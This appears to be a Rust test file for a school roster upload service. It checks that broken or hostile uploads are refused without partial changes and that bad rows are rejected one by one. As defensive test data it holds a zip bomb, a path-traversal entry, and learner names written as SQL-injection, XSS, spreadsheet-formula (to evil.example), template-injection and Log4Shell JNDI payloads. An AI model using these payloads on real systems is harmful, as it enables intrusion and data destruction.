//! Files that are broken or mean harm: each is refused with a clear problem, or its bad rows are, and nothing is half applied.

use std::io::{Cursor, Read as _};

use axum::body::Body;
use axum::http::Request;
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use crate::support::client::{BATCHES, Client, Covers, counts};
use crate::support::portal::Portal;
use crate::support::roster::{Learner, Package, Roster, learner};

const MIB: u64 = 1 << 20;

async fn assert_nothing_is_kept(portal: &Portal) {
    for question in [
        "SELECT count(*) FROM account",
        "SELECT count(*) FROM teaching_group",
        "SELECT count(*) FROM upload WHERE content IS NOT NULL",
        "SELECT count(*) FROM sync_change",
        "SELECT count(*) FROM waiting_learner",
    ] {
        assert_eq!(portal.count(question).await, 0, "{question}");
    }
}

fn good() -> Package {
    Roster::of("6812001").learners([learner(1)]).package()
}

#[tokio::test]
async fn a_file_that_cannot_be_understood_is_refused_while_the_sender_waits() {
    let portal = Portal::start().await;
    let school = portal.add_school("6812001", "Ysgol A").await;
    let client = portal.client(Covers::School(&school)).await;
    let mut bomb = ZipWriter::new(Cursor::new(Vec::new()));
    bomb.start_file("users.csv", SimpleFileOptions::default()).unwrap();
    std::io::copy(&mut std::io::repeat(0).take(300 * MIB), &mut bomb).unwrap();
    let users = good().text("users.csv");
    let files: [(&str, Vec<u8>); 9] = [
        ("not_a_zip", b"users.csv".to_vec()),
        ("not_a_zip", Vec::new()),
        ("zip_bomb", bomb.finish().unwrap().into_inner()),
        ("bad_path", good().with("../users.csv", "x").zip()),
        ("file_missing", good().without("enrollments.csv").zip()),
        ("column_missing", good().with("users.csv", users.replacen("familyName", "surname", 1)).zip()),
        (
            "not_utf8",
            good()
                .with("orgs.csv", b"sourcedId,name,type,identifier\nschool,Ysgol M\xf4n,school,6812001\n")
                .zip(),
        ),
        ("version_unknown", good().with("manifest.csv", "propertyName,value\noneroster.version,1.0\n").zip()),
        (
            "school_missing",
            good().with("orgs.csv", "sourcedId,name,type,identifier\nla,Authority,district,681\n").zip(),
        ),
    ];
    for (code, content) in files {
        client.post(&content).await.assert_problem(422, code);
    }
    assert_eq!(portal.count("SELECT count(*) FROM upload").await, 0);
    assert_eq!(portal.count("SELECT count(*) FROM sync_batch").await, 0);
    portal.finish().await;
}

#[tokio::test]
async fn requests_that_are_no_upload_get_a_problem_document_too() {
    let portal = Portal::start().await;
    let school = portal.add_school("6812001", "Ysgol A").await;
    let client = portal.client(Covers::School(&school)).await;
    let plain = Request::post(BATCHES).body(Body::from("x")).unwrap();
    let from = std::net::SocketAddr::from(([198, 51, 100, 7], 443));
    portal.send(plain, from).await.assert_problem(401, "token");
    client
        .post_to(&format!("{BATCHES}?dry_run=perhaps"), &good().zip())
        .await
        .assert_problem(400, "bad_request");
    portal.finish().await;
}

/// What is noticed only once the rows are read ends the batch, with the reason in it.
async fn assert_fails(portal: &Portal, client: &Client<'_>, content: &[u8], code: &str) {
    let id = client.accepted(content).await;
    portal.drain_jobs().await;
    let batch = client.batch(&id).await;
    assert_eq!((batch["state"].as_str(), batch["error"].as_str()), (Some("failed"), Some(code)));
    assert_nothing_is_kept(portal).await;
}

#[tokio::test]
async fn a_file_that_breaks_off_in_the_middle_changes_nothing() {
    let portal = Portal::start().await;
    let school = portal.add_school("6812001", "Ysgol A").await;
    let client = portal.client(Covers::School(&school)).await;
    let users = Roster::of("6812001").learners((1..50).map(learner)).package().text("users.csv");
    let latin: Vec<u8> = users.chars().map(|c| u8::try_from(c).unwrap_or(b'?')).collect();
    let damaged = [
        ("not_utf8", good().with("users.csv", latin)),
        ("row_length", good().with("users.csv", format!("{users}one,two\n"))),
        ("id_repeated", good().with("users.csv", format!("{users}{}\n", users.lines().nth(1).unwrap()))),
        ("field_too_long", good().with("users.csv", users.replacen("Prys", &"x".repeat(70_000), 1))),
    ];
    for (code, package) in damaged {
        assert_fails(&portal, &client, &package.zip(), code).await;
    }
    portal.finish().await;
}

#[tokio::test]
async fn a_million_rows_are_not_read() {
    let portal = Portal::start().await;
    let school = portal.add_school("6812001", "Ysgol A").await;
    let client = portal.client(Covers::School(&school)).await;
    let users = good().text("users.csv");
    let (header, row) = users.trim_end().split_once('\n').unwrap();
    let mut endless = header.to_owned();
    for n in 0..1_000_000 {
        endless.push('\n');
        endless.push_str(&row.replacen("learner-1", &n.to_string(), 1));
    }
    assert_fails(&portal, &client, &good().with("users.csv", endless).zip(), "too_many_rows").await;
    portal.finish().await;
}

#[tokio::test]
async fn names_are_text_whatever_they_look_like() {
    let portal = Portal::start().await;
    let school = portal.add_school("6812001", "Ysgol A").await;
    let names = [
        ("Robert'); DROP TABLE account;--", "Tables"),
        ("<script>alert(1)</script>", "<b>Bold</b>"),
        ("=HYPERLINK(\"https://evil.example\")", "@SUM(A1)"),
        ("{{7*7}}", "${jndi:ldap://evil}"),
        ("王", "李"),
        ("\u{202e}drow", "Zero\u{200b}Width"),
    ];
    let learners = names.iter().zip(1..).map(|((forename, surname), n)| learner(n).named(forename, surname));
    let batch = portal.push(&school, &Roster::of("6812001").learners(learners)).await;
    assert_eq!(counts(&batch), [("created", 6)]);
    let stored: Vec<(String, String)> =
        sqlx::query_as("SELECT legal_forename, username FROM account ORDER BY admission_number")
            .fetch_all(&mut portal.owner().await)
            .await
            .unwrap();
    for ((forename, _), (kept, username)) in names.iter().zip(&stored) {
        assert_eq!(kept, forename);
        assert!(username.bytes().all(|byte| byte.is_ascii_alphanumeric()), "{username}");
    }
    assert_eq!(stored[4].1, "User");
    portal.finish().await;
}

#[tokio::test]
async fn one_bad_row_never_stops_the_others() {
    let portal = Portal::start().await;
    let school = portal.add_school("6812001", "Ysgol A").await;
    let spoil = |n: u32, spoil: fn(&mut Learner)| {
        let mut row = learner(n);
        spoil(&mut row);
        row
    };
    let roster = Roster::of("6812001").learners([
        learner(1),
        spoil(2, |row| row.upn.clear()),
        spoil(3, |row| row.upn = "nonsense".to_owned()),
        spoil(4, |row| row.admission_number.clear()),
        spoil(5, |row| row.admission_date.clear()),
        spoil(6, |row| row.admission_date = "soon".to_owned()),
        spoil(7, |row| row.grade = "99".to_owned()),
        spoil(8, |row| row.surname.clear()),
        spoil(9, |row| row.forename = "x".repeat(10_000)),
        spoil(10, |row| row.upn = crate::support::roster::upn(11)),
        learner(11),
        learner(12),
    ]);
    let batch = portal.push(&school, &roster).await;
    assert_eq!(counts(&batch), [("created", 2), ("rejected", 10)]);
    let client = portal.client(Covers::School(&school)).await;
    let rejections = client.csv(batch["batch_id"].as_str().unwrap(), "rejections.csv").await;
    let codes: Vec<(&str, &str)> =
        rejections[1..].iter().map(|line| (line[1].as_str(), line[3].as_str())).collect();
    assert_eq!(
        codes,
        [
            ("3", "upn_missing"),
            ("4", "upn_invalid"),
            ("5", "admission_number_missing"),
            ("6", "admission_date_missing"),
            ("7", "date_invalid"),
            ("8", "year_group_unknown"),
            ("9", "name_missing"),
            ("10", "name_too_long"),
            ("11", "upn_repeated"),
            ("12", "upn_repeated"),
        ]
    );
    portal.finish().await;
}
